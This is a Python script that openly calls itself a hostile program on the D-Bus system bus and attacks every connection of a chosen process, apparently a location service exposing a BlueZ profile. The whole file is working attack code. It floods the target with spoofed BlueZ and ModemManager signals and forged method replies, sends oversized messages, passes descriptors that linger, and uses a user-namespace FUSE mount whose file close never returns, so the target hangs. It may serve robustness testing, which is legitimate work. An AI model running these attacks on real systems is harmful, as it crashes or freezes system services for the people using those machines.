# A hostile program on the bus in DBUS_SYSTEM_BUS_ADDRESS. The first argument is the process it attacks. Each line of
# input is an attack on all connections of that process. Prints a line at the end of each. `own` takes the name of
# BlueZ, `count` counts those connections. The number after `strings` is the size of each in MiB.
#
# dbus-daemon closes a descriptor that it has passed on, too, and waits for that if it is the last one. So lingering
# descriptors are kept open here until `release`. From then on the process that they were sent to has the last one.
# `hang` prints the process that serves the file system: all hangs until that is ended.
import ctypes, errno, os, signal, socket, struct, sys, tempfile
import gi
gi.require_version("Gio", "2.0")
from gi.repository import Gio, GLib
DEVICE = "/org/bluez/hci0/dev_10_C6_FC_12_34_56"
BUS = ("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus")
MANAGER, MODEMS = "org.freedesktop.ModemManager1", "/org/freedesktop/ModemManager1"
MODEM = MODEMS + "/Modem/0"
OBJECTS, PROPERTIES = "org.freedesktop.DBus.ObjectManager", "org.freedesktop.DBus.Properties"
LIBC = ctypes.CDLL(None, use_errno=True)
kept, held, servers = [], [], []

def lingering():
    """A TCP socket whose last close waits for an hour."""
    if not kept: kept.append(socket.create_server(("127.0.0.1", 0), backlog=1024))
    linger = socket.create_connection(kept[0].getsockname())
    kept.append(kept[0].accept()[0])
    linger.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
    linger.setblocking(False)
    try:
        while True: linger.send(bytes(65536))
    except BlockingIOError:
        held.append(os.dup(linger.fileno()))
        return linger.detach()

def serve(device):
    """Serves a file system of one file, until it is gone. To close the file waits for an answer that never comes."""
    LOOKUP, FORGET, GETATTR, OPEN, FLUSH, INIT = 1, 2, 3, 14, 25, 26
    def attributes(node):
        kind, links = (0o40755, 2) if node == 1 else (0o100644, 1)
        return struct.pack("=6Q10I", node, 0, 0, 0, 0, 0, 0, 0, 0, kind, links, 0, 0, 0, 4096, 0)
    while True:
        try: request = os.read(device, 1 << 20)
        except OSError as error:
            if error.errno in (errno.EINTR, errno.ENOENT): continue
            return
        _, opcode, unique, node = struct.unpack_from("=IIQQ", request)
        body, status = b"", 0
        if opcode == INIT: body = struct.pack("=IIIIHHI", 7, 31, 4096, 0, 0, 0, 4096) + bytes(40)
        elif opcode == LOOKUP: body = struct.pack("=QQQQII", 2, 0, 1000, 1000, 0, 0) + attributes(2)
        elif opcode == GETATTR: body = struct.pack("=QII", 1000, 0, 0) + attributes(node)
        elif opcode == OPEN: body = bytes(16)
        elif opcode in (FORGET, FLUSH): continue
        else: status = -errno.ENOSYS
        os.write(device, struct.pack("=IiQ", 16 + len(body), status, unique) + body)

def hanging():
    """A file whose close waits for ever, on a file system of an ordinary user. None if this user may not mount one."""
    ours, theirs = socket.socketpair()
    if os.fork() == 0:
        try:
            uid, gid = os.geteuid(), os.getegid()
            if LIBC.unshare(0x10020000) < 0: os._exit(1)
            for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
                with open(f"/proc/self/{name}", "w") as file: file.write(text)
            LIBC.mount(b"none", b"/", None, 0x44000, None)
            place, device = tempfile.mkdtemp(prefix="hanging-"), os.open("/dev/fuse", os.O_RDWR)
            options = f"fd={device},rootmode=40755,user_id=0,group_id=0".encode()
            if LIBC.mount(b"fuse", place.encode(), b"fuse", 0, options) < 0: os._exit(1)
            # It has no descriptor of the file itself: who waits for it gets an error when it ends.
            server = os.fork()
            if server == 0: serve(device)
            else:
                os.close(device)
                socket.send_fds(theirs, [struct.pack("i", server)], [os.open(place + "/file", os.O_RDONLY)])
                signal.pause()
        finally: os._exit(1)
    theirs.close()
    server, descriptors, _, _ = socket.recv_fds(ours, 4, 1)
    if not descriptors: return None
    servers.append(struct.unpack("i", server)[0])
    return descriptors[0]

def targets():
    """The names of the process's connections."""
    names = bus.call_sync(*BUS, "ListNames", None, None, 0, -1, None).unpack()[0]
    found = []
    for name in names:
        if not name.startswith(":"): continue
        own = GLib.Variant("(s)", (name,))
        try: process = bus.call_sync(*BUS, "GetConnectionUnixProcessID", own, None, 0, -1, None)
        except GLib.Error: continue
        if process.unpack()[0] == int(sys.argv[1]): found.append(name)
    return found

def send(message, body, descriptors=()):
    if body: message.set_body(body)
    if descriptors: message.set_unix_fd_list(Gio.UnixFDList.new_from_array(list(descriptors)))
    bus.send_message(message, 0)

def call(target, member, body, descriptors=()):
    message = Gio.DBusMessage.new_method_call(target, "/io/locationd/serial", "org.bluez.Profile1", member)
    message.set_flags(Gio.DBusMessageFlags.NO_REPLY_EXPECTED)
    send(message, body, descriptors)

def modem(target, path, interface, member, body):
    """A signal as if it were ModemManager's, or of the bus about it."""
    message = Gio.DBusMessage.new_signal(path, interface, member)
    message.set_destination(target)
    send(message, body)

def guess(target, serial, body):
    """A reply to a call that the target may have made to ModemManager."""
    message = Gio.DBusMessage()
    message.set_message_type(Gio.DBusMessageType.METHOD_RETURN)
    message.set_destination(target)
    message.set_reply_serial(serial)
    message.set_flags(Gio.DBusMessageFlags.NO_REPLY_EXPECTED)
    send(message, body)

def changed(target, name, value):
    message = Gio.DBusMessage.new_signal(DEVICE, "org.freedesktop.DBus.Properties", "PropertiesChanged")
    message.set_destination(target)
    send(message, GLib.Variant("(sa{sv}as)", ("org.bluez.Device1", {name: value}, [])))

def attack(kind):
    if kind == "release":
        while held: os.close(held.pop())
        return "done"
    if kind.startswith("own "):
        name = GLib.Variant("(su)", (kind[4:], 7))
        return bus.call_sync(*BUS, "RequestName", name, None, 0, -1, None).unpack()[0]
    for target in targets():
        if kind == "linger":
            for _ in range(20): call(target, "NewConnection", GLib.Variant("(oha{sv})", (DEVICE, 0, {})), [lingering()])
        elif kind == "offer":
            bus.call_with_unix_fd_list_sync(
                target, "/io/locationd/serial", "org.bluez.Profile1", "NewConnection",
                GLib.Variant("(oha{sv})", (DEVICE, 0, {})), None, 0, 5000,
                Gio.UnixFDList.new_from_array([os.open("/dev/null", os.O_RDONLY)]), None)
        elif kind == "hang":
            descriptor = hanging()
            if descriptor is None: return "impossible"
            # From here on this process hangs, too.
            print(kind, servers.pop(), flush=True)
            call(target, "NewConnection", GLib.Variant("(oha{sv})", (DEVICE, 0, {})), [descriptor])
        elif kind.startswith("strings "):
            for _ in range(4): call(target, "x" * 200, GLib.Variant("(s)", ("y" * (int(kind[8:]) << 20),)))
            call(target, "Release", None)
            call(target, "RequestDisconnection", GLib.Variant("(o)", (DEVICE,)))
        elif kind == "modems":
            sentences = "$GPGGA,120000,1000.000,N,02000.000,E,1,08,0.9,545.4,M,46.9,M,,*4D\r\n"
            for number in range(20000):
                if number % 2: modem(target, MODEMS, OBJECTS, "InterfacesRemoved", GLib.Variant("(oas)", (
                    MODEM, [MANAGER + ".Modem"])))
                else: modem(target, MODEM, PROPERTIES, "PropertiesChanged", GLib.Variant("(sa{sv}as)", (
                    MANAGER + ".Modem.Location", {"Enabled": GLib.Variant("u", 1)}, [])))
            for serial in range(1, 2000):
                guess(target, serial, GLib.Variant("(a{uv})", ({4: GLib.Variant("s", sentences)},)))
            modem(target, BUS[1], BUS[2], "NameOwnerChanged", GLib.Variant("(sss)", (MANAGER, ":1.0", "")))
            large = GLib.Variant("(s)", ("y" * (8 << 20),))
            for _ in range(4): modem(target, MODEMS, OBJECTS, "InterfacesAdded", large)
        elif kind == "signals":
            for _ in range(20000): changed(target, "Connected", GLib.Variant("b", False))
            message = Gio.DBusMessage.new_signal("/", "org.freedesktop.DBus", "NameOwnerChanged")
            message.set_destination(target)
            send(message, GLib.Variant("(sss)", ("org.bluez", ":1.0", "")))
    # The bus has handled everything when it answers.
    return len(targets())

bus = Gio.DBusConnection.new_for_address_sync(
    os.environ["DBUS_SYSTEM_BUS_ADDRESS"],
    Gio.DBusConnectionFlags.AUTHENTICATION_CLIENT | Gio.DBusConnectionFlags.MESSAGE_BUS_CONNECTION, None, None)
for line in sys.stdin:
    kind = line.strip()
    try: print(kind, attack(kind), flush=True)
    except GLib.Error as failure: print(kind, failure.message, flush=True)
